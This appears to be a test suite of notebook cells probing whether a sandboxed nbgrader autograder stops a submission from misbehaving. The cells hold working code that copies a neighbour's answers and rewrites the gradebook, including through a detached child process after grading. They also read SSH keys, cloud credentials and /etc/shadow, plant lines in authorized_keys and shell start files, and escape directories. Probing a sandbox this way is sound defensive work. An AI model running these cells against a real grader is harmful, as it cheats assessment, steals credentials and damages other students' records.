"""Other people's files: neighbours, the gradebook, the source, the grader's own secrets."""
# Cells of notebooks, not a module.
# ruff: noqa

# /// reads_beside_the_gradebook
# tells = "Reads the file beside the gradebook, and the configuration."
# stopped_by = "own files"
# stock = "read it"
# ///
# %%
tries("the file", read, TOLD["file"])
tries("the configuration", read, TOLD["course"], "nbgrader_config.py")
tries("the log", read, TOLD["course"], ".nbgrader.log")

# /// reads_what_bugs_are_drawn_with
# tells = "Reads the secret that everybody's bugs are drawn with."
# stopped_by = "own files"
# ///
# %%
tries("the secret", read, TOLD["course"], "course_secret")
tries("the list of copies", os.listdir, os.path.join(TOLD["course"], "personal"))

# /// reads_the_neighbours
# tells = "Reads what other students handed in, and how they were graded."
# stopped_by = "own files"
# stock = "read them"
# ///
# %%
for step in ("submitted", "autograded", "feedback"):
    tries(step, os.listdir, os.path.join(TOLD["course"], step))
tries("the neighbour", read, TOLD["neighbour"])
answer = tries("the answer", lambda: json.loads(read(TOLD["neighbour"]))["cells"])


# /// copies_the_neighbour
# tells = "Runs the answers of a neighbour who is right."
# stopped_by = "own files"
# stock = "full marks"
# ///
# %%
def copied(name):
    for cell in json.loads(read(TOLD["neighbour"]))["cells"]:
        if f"def {name}(" in "".join(cell["source"]):
            exec("".join(cell["source"]), globals())


# %% forward_propagation
copied("forward_propagation")
# %% backward_propagation
copied("backward_propagation")
# %% numerical_derivative
copied("numerical_derivative")
# %% relative_difference
copied("relative_difference")
# %% gradient_check
copied("gradient_check")
# %% error_sweep
copied("error_sweep")

# /// reads_the_gradebook
# tells = "Reads all grades, out of the gradebook and out of its file."
# stopped_by = "own files"
# stock = "read it"
# ///
# %%
import sqlite3

try:
    book = sqlite3.connect(f"file:{TOLD['gradebook']}?mode=ro", uri=True)
    succeeded(book.execute("select * from student").fetchall())
except sqlite3.Error as error:
    print(error)
tries("its file", lambda: read(TOLD["gradebook"])[:16])

# /// writes_the_gradebook
# tells = "Gives itself full marks, and the others none."
# stopped_by = "own files"
# stock = "changed all grades; nobody after it is graded"
# ///
# %%
import sqlite3


def give():
    book = sqlite3.connect(TOLD["gradebook"], timeout=1)
    with book:
        book.execute("update grade set auto_score = 0, manual_score = 0")
        book.execute("update grade_cells set max_score = 20")
    return "all grades were changed"


try:
    tries("gradebook", give)
except sqlite3.Error as error:
    print(error)
tries("its file", may_write, TOLD["gradebook"])
tries("a file beside it", leave, TOLD["course"])
for step in ("source", "release", "submitted", "autograded"):
    tries(step, leave, TOLD["course"], step)
tries("the neighbour", may_write, TOLD["neighbour"])

# /// writes_the_gradebook_after_being_graded
# tells = "A child process waits until its scores are in the gradebook, and then raises them."
# stopped_by = "own files"
# stock = "36 of 20 points, and changed those of others"
# ///
# %%
import sqlite3
import time

if os.fork() == 0:
    os.setsid()
    for _ in range(30):
        time.sleep(0.2)
        try:
            with sqlite3.connect(f"file:{TOLD['gradebook']}?mode=rw", uri=True) as book:
                book.execute("update grade set auto_score = 6 where auto_score = 0")
        except sqlite3.Error:
            continue
    os._exit(0)

# /// reads_the_environment
# tells = "Prints every environment variable, those of the C library included."
# stopped_by = "one child each"
# stock = "read it"
# ///
# %%
environment = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
index = 0
while environment[index]:
    print(environment[index])
    index += 1
print(dict(os.environ))
for path in ("/proc/self/environ", "/proc/1/environ", "/proc/thread-self/environ"):
    looks(path, read, path)

# /// reads_old_memory
# tells = "Searches its own memory for what the grader held before it forked, the secrets among it."
# stopped_by = "one child each"
# stock = "read it"
# ///
# %%
import gc


def texts():
    for each in gc.get_objects():
        for value in gc.get_referents(each):
            if isinstance(value, (str, bytes)) and 20 < len(value) < 10_000:
                yield value if isinstance(value, str) else value.decode("latin-1")


for text in {*texts()}:
    if "canary" in text and TOLD["mark"] not in text:
        print(text)


def mapped():
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
        for line in maps:
            low, high = (int(each, 16) for each in line.split()[0].split("-"))
            if " rw" in line and high - low < 2**26:
                memory.seek(low)
                text = memory.read(high - low)
                start = text.find(b"canary-")
                while start >= 0:
                    print(text[start : start + 60])
                    start = text.find(b"canary-", start + 1)


tries("maps", mapped)

# /// reads_the_home
# tells = "Reads keys, tokens and histories in every home that it can find."
# stopped_by = "own files"
# stock = "read them"
# ///
# %%
import pwd

homes = {TOLD["home"], os.path.expanduser("~"), os.path.join("/", "root")}
homes |= {each.pw_dir for each in tries("passwd", lambda: pwd.getpwall() and None) or ()}
for home in homes:
    for name in (
        ".ssh",
        ".ssh/id_rsa",
        ".ssh/authorized_keys",
        ".bash_history",
        ".netrc",
        ".gitconfig",
        ".aws/credentials",
        ".config",
        ".jupyter",
        ".ipython",
        ".pypirc",
    ):
        path = os.path.join(home, name)
        tries(path, os.listdir if os.path.isdir(path) else read, path)


# /// writes_into_the_home
# tells = "Adds a key of its own to authorized_keys, and lines to the shell's start files."
# stopped_by = "own files"
# stock = "wrote them"
# ///
# %%
def add(name):
    with open(os.path.join(TOLD["home"], name), "a") as file:
        file.write(f"{TOLD['mark']}\n")
    return name


for name in (".ssh/authorized_keys", ".ssh/id_rsa", ".bashrc", ".profile", TOLD["mark"]):
    tries(name, add, name)

# /// reads_the_system
# tells = "Reads passwords, the machine's id, disks, kernel memory and logs."
# stopped_by = "own files"
# stock = "read them"
# ///
# %%
for path in (
    "/etc/shadow",
    "/etc/machine-id",
    "/etc/hosts",
    "/etc/resolv.conf",
    "/dev/mem",
    "/dev/kmsg",
    "/dev/sda",
    "/dev/vda",
    "/dev/nvme0n1",
    "/dev/tty",
    "/dev/console",
    "/var/log/syslog",
    "/sys/kernel/debug",
    "/sys/class/net",
    "/proc/kcore",
    "/proc/cpuinfo",
    "/proc/kallsyms",
    "/proc/sysrq-trigger",
    "/run",
    "/boot",
    "/var/run/docker.sock",
):
    tries(
        path,
        lambda path=path: (os.listdir(path) or None) if os.path.isdir(path) else read(path)[:20],
    )

# /// looks_at_other_processes
# tells = "Reads command lines, environments, memory and folders of other processes in /proc."
# stopped_by = "own processes"
# stock = "read them"
# ///
# %%
import glob

others = [path for path in glob.glob("/proc/[0-9]*") if path != f"/proc/{os.getpid()}"]
print(others)
for path in [*others[:10], f"/proc/{TOLD['bystander']}", f"/proc/{os.getppid()}", "/proc/1"]:
    if path != f"/proc/{os.getpid()}":
        for name in ("environ", "cmdline", "maps"):
            tries(f"{path} {name}", lambda: read(path, name) or None)
        for name in ("root", "cwd"):
            tries(f"{path} {name}", os.listdir, os.path.join(path, name))
        tries(f"{path} fd", os.listdir, os.path.join(path, "fd"))
        tries(f"{path} mem", may_write, path, "mem")

# /// goes_through_its_descriptors
# tells = "Uses inherited descriptors as doors: folders, files, and what lies above them."
# stopped_by = "own files"
# stock = "went through them"
# ///
# %%
for descriptor in range(256):
    try:
        mode = os.fstat(descriptor).st_mode
    except OSError:
        continue
    print(descriptor, stat.filemode(mode))
    if stat.S_ISDIR(mode):
        tries(f"{descriptor} is a folder", os.listdir, descriptor)
        tries(f"above {descriptor}", os.listdir, f"/proc/self/fd/{descriptor}/..")
        tries(f"the file through {descriptor}", lambda: os.open(TOLD["file"], 0, dir_fd=descriptor))
    elif stat.S_ISREG(mode):
        tries(f"{descriptor} is a file", lambda: os.pread(descriptor, 100, 0) or None)
tries("through /proc", os.listdir, "/proc/self/fd")


# /// links_to_the_secrets
# tells = "Makes links to secrets in its own folder, and reads them through the links."
# stopped_by = "own files"
# stock = "read it"
# ///
# %%
def through(make, name, target=TOLD["file"], inside=""):
    make(target, name)
    try:
        return read(name + inside)
    finally:
        os.remove(name)


tries("symbolic", through, os.symlink, "a_symbolic_link")
tries("hard", through, os.link, "a_hard_link")
tries("of the root", through, os.symlink, "root", "/", TOLD["file"])
tries("up and up", read, "../" * 30 + TOLD["file"].lstrip("/"))
tries("by /proc", read, "/proc/self/root" + TOLD["file"])
tries("by the first process", read, "/proc/1/root" + TOLD["file"])
tries("renamed", lambda: os.rename(TOLD["file"], "mine") or read("mine"))


# /// opens_by_handle
# tells = "Opens files by their inode numbers, past every path (open_by_handle_at)."
# stopped_by = "system calls"
# stock = "opened them, as root"
# ///
# %%
class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 8)]


def by_handle(inode):
    here = os.open(".", os.O_RDONLY)
    handle = Handle(8, 1, (ctypes.c_ubyte * 8)(*inode.to_bytes(8, "little")))
    return os.listdir(syscall("open_by_handle_at", here, ctypes.byref(handle), os.O_RDONLY)[1])


for inode in (2, 64, 128, 256):
    tries(f"inode {inode}", by_handle, inode)

# /// writes_all_over
# tells = "Leaves files in every folder of the system that it can think of."
# stopped_by = "own files"
# harmful = true
# ///
# %%
import site
import sysconfig

for folder in (
    TOLD["course"],
    TOLD["home"],
    TOLD["elsewhere"],
    TOLD["package"],
    "/dev/shm",
    "/var/tmp",
    "/run",
    "/etc",
    "/",
    "/usr",
    "/var/spool/cron",
    "/etc/cron.d",
    "/sys/fs/cgroup",
    os.path.dirname(TOLD["package"]),
    sysconfig.get_path("scripts"),
    *site.getsitepackages(),
):
    looks(folder, leave, folder)  # its own /dev/shm may well be writable

# /// swaps_the_libraries
# tells = "Would write into Python, numpy and matplotlib, and into their compiled files."
# stopped_by = "own files"
# harmful = true
# ///
# %%
import glob
import importlib.util

import matplotlib

for module in (os, json, np, matplotlib, sys.modules[type(get_ipython()).__module__]):
    tries(module.__name__, may_write, module.__file__)
    cached = importlib.util.cache_from_source(module.__file__)
    tries(f"compiled {module.__name__}", may_write, cached)
    tries(f"beside {module.__name__}", leave, os.path.dirname(module.__file__))
for path in glob.glob(os.path.join(os.path.dirname(np.__file__), "_core", "*.so")):
    tries(path, may_write, path)
tries("python", may_write, os.path.realpath(sys.executable))
